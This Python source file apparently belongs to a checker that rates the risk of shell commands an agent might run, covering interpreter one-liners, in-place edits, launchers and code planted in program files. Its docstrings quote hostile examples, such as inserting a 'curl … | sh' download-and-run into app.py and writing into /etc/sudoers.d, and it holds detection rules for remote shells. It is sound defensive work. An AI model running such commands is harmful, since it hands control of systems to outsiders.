    path = _path_argument(text, masked, m) or _worst_literal_path(text, recursive=recursive)
    severity: Severity = (
        ("high" if recursive else "medium")
        if path is None
        else (toolbox.delete_severity(path, recursive=recursive))
    )
    how = " recursively" if recursive else ""
    if path is None:
        message = f"{lang} one-liner deletes{how} ({call}) a path known only at run time"
    else:
        reason = toolbox.delete_reason(path)
        message = f"{lang} one-liner deletes {path}{how} ({call}){': ' + reason if reason else ''}"
    return Hit(
        "fs.interpreter_delete",
        severity,
        message,
        span,
        "system" if severity == "critical" else ("tree" if recursive else "single"),
    )


def _worst_literal_path(text: str, *, recursive: bool) -> str | None:
    """A delete whose path is computed (`os.remove(f) for f in glob('/etc/*.d')`): the
    paths it can reach are built from the literal paths of the one-liner, so it is as bad
    as deleting the worst of them."""
    paths = [lit for lit in _literals(text) if lit.startswith(("/", "~"))]
    if not paths:
        return None
    return max(paths, key=lambda p: severity_rank(toolbox.delete_severity(p, recursive=recursive)))


def _path_argument(text: str, masked: str, m: re.Match[str]) -> str | None:
    """The literal path a delete call acts on: its first string argument, or for a method
    (`Path('/x').unlink()`) the literal just before it. None when it is computed."""
    end = m.end()
    stop = re.search(r"[;\n)]", masked[end:])
    after = text[end : end + (stop.start() if stop else len(text))]
    if m.group("meth") is None:
        found = re.search(_STRING, after)
        return _literal(found) if found else None
    before = text[: m.start()]
    found_all = list(re.finditer(_STRING, before[-160:]))
    return _literal(found_all[-1]) if found_all else None


def _literal(m: re.Match[str]) -> str:
    return m.group(1) if m.group(1) is not None else m.group(2)


def _mask_strings(text: str) -> str:
    """`text` with the insides of string literals blanked (same length): a call name inside a
    string is data."""
    return re.sub(
        _STRING, lambda m: m.group(0)[0] + " " * (len(m.group(0)) - 2) + m.group(0)[-1], text
    )


def _code_arg(cmd: Cmd) -> tuple[str, Word] | None:
    """The program text given on the command line (`-c CODE`, `-e CODE`, `-pe CODE`)."""
    letters = _CODE_FLAGS.get(cmd.name, "")
    args = cmd.args
    for i, a in enumerate(args[:-1]):
        t = a.text
        if t == _WORD_CODE.get(cmd.name):
            return args[i + 1].text, args[i + 1]
        if t.startswith("--") and t[2:] in _LONG_CODE:
            return args[i + 1].text, args[i + 1]
        if cmd.name == "pwsh" and len(t) > 1 and "-command".startswith(t.lower()):
            # `-c`, `-Command`, `-com`; `-Command -` reads the program on stdin
            return None if args[i + 1].text == "-" else (args[i + 1].text, args[i + 1])
        cluster = _PERL_DIGITS.sub("", t[1:]) if cmd.name == "perl" else t[1:]
        if (
            t.startswith("-")
            and not t.startswith("--")
            and cluster.isalpha()
            and t[-1] in (letters or "\0")
        ):
            return args[i + 1].text, args[i + 1]
        if not t.startswith("-") and cmd.name != "erl":  # erl's flags take bare values
            if i and args[i - 1].text in _LIBRARY_OPTIONS.get(cmd.name, ()):
                continue  # `racket -l racket/system -e CODE`: the library, then the code
            return None
    return None


# Options naming a library loaded, or a setting, before the code given on the line (its
# value is no script): racket's `-l racket/system`, guile's `-L DIR`, python's `-X dev`
# and `-W ignore`, node's `-r ./hook.js`.
_LIBRARY_OPTIONS = {
    "racket": ("-l", "--lib", "-I", "-p"),
    "guile": ("-L", "-x"),
    "python": ("-X", "-W"),
    "node": ("-r", "--require", "--import", "--loader", "--conditions", "-C", "--title"),
}


def judge_interpreter(an: Analysis, cmd: Cmd) -> None:
    """python/perl/ruby/node/php/awk: one-liner, module, script file or stdin."""
    if cmd.name == "awk":
        _awk(an, cmd)
        return
    found = _code_arg(cmd)
    if found is not None:
        judge_code(an, cmd, found[0], [found[1]])
        if cmd.name == "perl" and _perl_in_place(cmd):
            files = cmd.args[cmd.args.index(found[1]) + 1 :]
            for word in files:  # a critical file edited is judged like a write to it
                if classify(word.text) in ("critical", "root", "device", "log", "dotfile"):
                    an.add_write(word, cmd.span, "perl -i edits in place", truncate=False)
            an.add(
                Hit(
                    "fs.edit_in_place",
                    "medium",
                    "perl -i edits files in place",
                    cmd.span,
                    scoped=True,
                )
            )
        return
    if cmd.name == "python" and (module := cmd.option_value("m")) is not None:
        _python_module(an, cmd, module)
        return
    if _php_report(cmd) or _syntax_check(cmd, an.src):
        return
    pos = cmd.positional("WXO")
    if pos and pos[0].text != "-":
        an.script_file(cmd, pos)
        return
    an.stdin_code(cmd, "code")


def _php_report(cmd: Cmd) -> bool:
    """`php -m`, `php -i`, `php -v`, `php --ini`: php prints its modules, configuration,
    version or ini files and exits, reading no program. Not when something loads code
    first: an extension or an ini given on the line (`-d extension=...`, `-c`, `-z`) or
    in the environment (`PHPRC`, `PHP_INI_SCAN_DIR`), nor with a script named."""
    return (
        cmd.name == "php"
        and cmd.has("m", "i", "v", "modules", "info", "version", "ini")
        and not cmd.has("d", "c", "z", "define", "php-ini", "zend-extension", "a", "interactive")
        and not cmd.simple.assigns
        and not cmd.positional("dcz")
    )


# Options that only parse a script and exit (`node --check app.js`, `ruby -c x.rb`, `php
# -l index.php`), with the warning switches that may go with them; the first set names the
# option that makes it a check. perl's `-c` is not one: it runs BEGIN blocks and `use`.
_SYNTAX_CHECK = {
    "node": ({"-c", "--check"}, {"-c", "--check"}),
    "ruby": ({"-c", "-wc", "-cw"}, {"-c", "-w", "-wc", "-cw", "-W"}),
    "php": ({"-l", "--syntax-check"}, {"-l", "--syntax-check"}),
}


_CODE_AT_START = lazy(r"NODE_OPTIONS|RUBYOPT|RUBYLIB|PHPRC|PHP_INI_SCAN_DIR")


def _syntax_check(cmd: Cmd, line: str) -> bool:
    """A syntax check: the file is parsed, none of its code runs. Every argument is the
    check option, a warning switch or a file; no option that loads code first (`-r LIB`,
    `--require`, `-d extension=`, `-e CODE`) and no variable set on the line (`RUBYOPT`,
    `NODE_OPTIONS`, `PHPRC` load code at start)."""
    allowed = _SYNTAX_CHECK.get(cmd.name)
    if allowed is None or cmd.simple.assigns or _CODE_AT_START.search(line):
        return False
    check, options = allowed
    texts = [a.text for a in cmd.args]
    files = [t for t in texts if not t.startswith("-")]
    return (
        bool(files)
        and any(t in check for t in texts)
        and all(t in options or not t.startswith("-") for t in texts)
    )


def _perl_in_place(cmd: Cmd) -> bool:
    """`perl -i`, `-pi`, `-i.bak`, `-pie`: perl's switches, where -M/-m/-I/-x/-d/-D/-F/-C/-0
    /-l take the rest of the word (`-MFile::Path=remove_tree` is not -i)."""
    for a in cmd.args:
        t = a.text
        if t == "--" or not t.startswith("-") or t.startswith("--"):
            break
        for letter in _PERL_DIGITS.sub(r"\1", t[1:]):
            if letter == "i":
                return True
            if letter in "MmIxdDFCeE":
                break
    return False


# perl's -0 and -l take only the digits after them (`-0777`, `-0xff`, `-l015`): the
# switches after those digits are switches of their own (`-0pi` is -0, -p, -i).
_PERL_DIGITS = lazy(r"([0l])(?:x[0-9a-fA-F]*|[0-7]*)")


_READ_MODULES = frozenset(
    {
        "json.tool",
        "site",
        "sysconfig",
        "platform",
        "this",
        "timeit",
        "pydoc",
        "tokenize",
        "dis",
        "py_compile",
        "compileall",
        "tabnanny",
        "calendar",
        "base64",
        "zipfile",
        "tarfile",
        "pstats",
        "pip._vendor",
        # the versions of the GPU stack, the driver and the libraries printed
        "torch.utils.collect_env",
        "deepspeed.env_report",
        "pickletools",  # disassembles a pickle without running it
    }
)


# Modules that are a command-line tool run by its own name (`python3 -m twine upload` is
# `twine upload`).
_TOOL_MODULES = frozenset({"pip", "pytest", "twine", "pipx", "poetry", "hatch", "uv", "ruff"})


def _python_module(an: Analysis, cmd: Cmd, module: str) -> None:
    if module in _READ_MODULES:
        return
    if module in _TOOL_MODULES:  # judged as the tool run by its own name
        idx = next(
            i for i, a in enumerate(cmd.args) if a.text in ("-m", f"-m{module}") or a.text == module
        )
        rest = cmd.args[idx + 1 :] if cmd.args[idx].text == "-m" else cmd.args[idx:]
        tool = Word(module, cmd.word.start, cmd.word.end, cmd.word.raw)
        inner = make_cmd(cmd.simple, [tool, *rest[1:]])
        if inner is not None:
            an.command(inner)
        return
    if module in ("pickle", "shelve"):  # `python -m pickle FILE` unpickles and prints FILE
        mlcode.unpickle_files(an, cmd)
        return
    # `-m unittest` runs the project's tests (its code): a plain yes, as `go test` is
    severity: Severity = "low" if module in ("http.server", "venv") else "medium"
    an.add(
        Hit(
            "exec.python_module",
            severity,
            f"python runs the module {module}",
            cmd.span,
            "unknown" if severity == "medium" else "single",
        )
    )


def _awk(an: Analysis, cmd: Cmd) -> None:
    if cmd.option_value("f") is not None:
        an.add(
            Hit(
                "exec.script",
                "medium",
                "awk runs a program file the engine cannot see",
                cmd.span,
                "unknown",
            )
        )
        return
    pos = cmd.positional("vFf")
    if not pos:
        return
    program = pos[0]
    text = program.text
    _secret_literal(an, "awk", text, program.span)
    for m in re.finditer(r"\bsystem\s*\(\s*" + _STRING, text):
        an.payload(
            m.group(1) if m.group(1) is not None else m.group(2),
            [program],
            "exec.awk_system",
            "awk system()",
        )
    if re.search(r"\bsystem\s*\(", text):
        an.add(
            Hit(
                "exec.awk_system",
                "medium",
                "awk program runs shell commands (system)",
                program.span,
                "unknown",
            )
        )
    if re.search(r"\|\s*(\"|getline|&)|\|&", text):
        an.add(
            Hit(
                "exec.awk_pipe", "high", "awk program pipes into a command", program.span, "unknown"
            )
        )
    for m in re.finditer(r"print[f]?[^;>|}]*>>?\s*" + _STRING, text):
        target = m.group(1) if m.group(1) is not None else m.group(2)
        risky = classify(target) in ("critical", "device", "root", "log")
        severity: Severity = "high" if risky else "medium"
        an.add(Hit("fs.awk_write", severity, f"awk program writes to {target}", program.span))
    _awk_variable_writes(an, text, program)
    if cmd.option_value("i") == "inplace" or "inplace" in cmd.argv:
        an.add(
            Hit("fs.edit_in_place", "medium", "awk -i inplace edits files", cmd.span, scoped=True)
        )


# awk's `print ... > f` to a file named by a variable or an expression: a variable the
# program sets to literal strings (`f = "/etc/sudoers.d/90-" "ops"`, concatenated) names
# that file; any other expression names one only known at run time.
_AWK_ASSIGN = lazy(r"\b([A-Za-z_]\w*)\s*=(?!=)\s*((?:" + _STRING + r"\s*)+)")
_AWK_EXPR_WRITE = lazy(r"print[f]?[^;>|}]*>>?\s*(?![\s\"'])([A-Za-z_]\w*|\$|\()")


def _awk_variable_writes(an: Analysis, text: str, program: Word) -> None:
    """`printf ... > f` with `f` set to a critical path (typed), or to a name known only
    at run time (a change)."""
    values = {m.group(1): "".join(_literals(m.group(2))) for m in _AWK_ASSIGN.finditer(text)}
    for m in _AWK_EXPR_WRITE.finditer(text):
        target = values.get(m.group(1))
        if target is None:
            an.add(
                Hit(
                    "fs.awk_write",
                    "medium",
                    "awk program writes to a file named at run time",
                    program.span,
                    "unknown",
                )
            )
            continue
        risky = classify(target) in ("critical", "device", "root", "log")
        severity: Severity = "high" if risky else "medium"
        an.add(Hit("fs.awk_write", severity, f"awk program writes to {target}", program.span))


# java's options that name code it loads (a class path, an agent), and those whose value is
# no file it runs (`--add-modules NAME`).
_JAVA_PATH_OPTIONS = frozenset(
    {"-cp", "-classpath", "--class-path", "-p", "--module-path", "--upgrade-module-path"}
)
_JAVA_VALUE_OPTIONS = frozenset(
    {
        "-m",
        "--module",
        "--add-modules",
        "--limit-modules",
        "--add-opens",
        "--add-exports",
        "--add-reads",
        "--patch-module",
        "--source",
        "--enable-native-access",
    }
)
_JAVA_ATTACHED = (
    "-javaagent:",
    "-agentpath:",
    "-Xbootclasspath/a:",
    "-Xbootclasspath/p:",
    "-Xbootclasspath:",
    "--class-path=",
    "--module-path=",
)


def java_program_files(argv: list[str]) -> list[str]:
    """The files whose code `java ARGS` runs: the jar after `-jar`, every class path and
    module path entry, agents, argument files (`@FILE`) and a single source file
    (`java /opt/x/Hello.java`); the program's own arguments after them are not read."""
    files: list[str] = []
    i = 0
    while i < len(argv):
        a = argv[i]
        if a in _JAVA_PATH_OPTIONS or a == "-jar":
            if i + 1 < len(argv):
                files += argv[i + 1].split(":")
            if a == "-jar":
                break
            i += 2
            continue
        if a in _JAVA_VALUE_OPTIONS:
            i += 2
            continue
        if a.startswith("@"):
            files.append(a[1:])
        elif attached := next((p for p in _JAVA_ATTACHED if a.startswith(p)), None):
            files += a[len(attached) :].split("=", 1)[0].split(":")
        elif not a.startswith("-"):
            if a.endswith(".java") or "/" in a:
                files.append(a)
            break
        i += 1
    return [f for f in files if f]


# How each kind of program file's code is run as a one-liner, to judge code written into
# one (`.py` is python's, `.sh` the shell's).
_PROGRAM_RUNNERS = {
    "py": "python3 -c",
    "rb": "ruby -e",
    "pl": "perl -e",
    "js": "node -e",
    "mjs": "node -e",
    "cjs": "node -e",
    "php": "php -r",
    "sh": "",
    "bash": "",
}
# What planted code does that asks for the typed code wherever it is written: it runs a
# download, or hands a shell to another host.
_PLANTED_RULES = frozenset({"exec.pipe_download", "net.remote_shell"})


def planted_code(an: Analysis, text: str, target: Word) -> None:
    """Code written into a program file (`sed -i '1i import os; os.system("curl -s
    198.51.100.3|sh")' app.py`, `echo 'curl x|sh' >> start.sh`) runs whenever that
    program does: a download run or a remote shell in it is judged as running one."""
    from aiperm_tui.policy.analysis import Analysis  # analysis imports this module

    name = target.text.rsplit("/", 1)[-1]
    runner = _PROGRAM_RUNNERS.get(name.rsplit(".", 1)[-1]) if "." in name else None
    if runner is None or not text.strip():
        return
    import shlex  # here, not at the top: most checks never need it

    line = f"{runner} {shlex.quote(text)}" if runner else text
    child = Analysis(line, an.depth + 1, an.cwd, an.packs)
    child.run()
    found = next((h for h in child.hits if h.rule in _PLANTED_RULES), None)
    if found is not None:
        an.add(
            Hit(
                "exec.planted_code",
                "high",
                f"writes code into {target.text} that {found.message[:1].lower()}"
                f"{found.message[1:]} whenever it runs",
                target.span,
                "unknown",
            )
        )


def go_run_files(cmd: Cmd) -> list[str]:
    """The source `go run` builds and runs: its `.go` files, or the package folder named
    by a path (`go run /tmp/x.go`, `go run ./cmd/tool`); a module path (`pkg@version`)
    is judged by the go table and the program's own arguments after it are not read."""
    if cmd.sub() != "run":
        return []
    words = [w.text for w in cmd.positional()][1:]
    files = list(itertools.takewhile(lambda w: w.endswith(".go"), words))
    if files or not words:
        return files
    return [words[0]] if words[0].startswith(("/", "./", "../", "~/")) else []


# Tools whose operand is a program they run (twentieth pass, audit20a): the distributed
# training launchers, the notebook runners and Slurm's job submission.
LAUNCHERS = frozenset(
    {"torchrun", "deepspeed", "accelerate", "papermill", "jupyter", "jupyterhub", "sbatch", "ray"}
)
# Ray's subcommands that act through a cluster configuration (their first operand): its
# auth (`ssh_proxy_command`), setup and start commands run from it (rev20a).
_RAY_CONFIG_VERBS = frozenset(
    {"up", "down", "exec", "submit", "attach", "monitor", "rsync-up", "rsync-down"}
)
_JUPYTER_CONFIG = lazy(r"--(?:config|[\w.]*\.config_file)=(.+)")


def launcher_files(cmd: Cmd) -> list[str]:
    """The program a launcher runs: the training script torchrun, deepspeed and
    `accelerate launch` start on every GPU (their first operand; the script's own
    arguments follow it), the notebooks `jupyter nbconvert --execute`, `jupyter execute`
    and papermill run cell by cell, and the job script sbatch queues. One written on the
    line or kept in a temp folder is code nobody reviewed, as `python3 /tmp/x.py` is."""
    words = [w.text for w in cmd.positional()]
    if cmd.name in ("jupyter", "jupyterhub"):
        return _jupyter_configs(cmd) + _notebooks_run(cmd, words)
    if cmd.name == "ray":
        return words[1:2] if words[:1] and words[0] in _RAY_CONFIG_VERBS else []
    if cmd.name == "accelerate":
        words = words[1:] if words[:1] == ["launch"] else []
    if cmd.name == "sbatch" and cmd.has("wrap"):
        return []  # the wrapped command is judged as a command (`sbatch.wrap`)
    return words[:1]


def _notebooks_run(cmd: Cmd, words: list[str]) -> list[str]:
    """The notebooks `jupyter execute` and `jupyter nbconvert --execute` run."""
    if cmd.name != "jupyter":
        return []
    executes = words[:1] == ["execute"] or (words[:1] == ["nbconvert"] and cmd.has("execute"))
    return [w for w in words[1:] if w.endswith(".ipynb")] if executes else []


def _jupyter_configs(cmd: Cmd) -> list[str]:
    """The Python configuration files a Jupyter application runs as it starts: `--config
    F`, `--config=F`, `--App.config_file=F`, and jupyterhub's `-f F` (rev20a)."""
    named = cmd.option_values("config", *(("f",) if cmd.name == "jupyterhub" else ()))
    glued = [m.group(1) for a in cmd.args if (m := _JUPYTER_CONFIG.fullmatch(a.text))]
    return [f for f in named if f] + [f for f in glued if f not in named]


def template_files(cmd: Cmd) -> list[str]:
    """The template files a renderer evaluates (m4's files, gomplate's -f/--file): a
    template can run commands (m4's esyscmd) or write files (gomplate's file.Write), so
    one written on the line or kept in a temp folder is unreviewed code."""
    if cmd.name == "m4":
        return [w.text for w in cmd.positional("DUIsdo") if w.text != "-"]
    if cmd.name == "gomplate":
        value = cmd.option_value("f", "file", "t", "template")
        return [value] if value else []
    return []
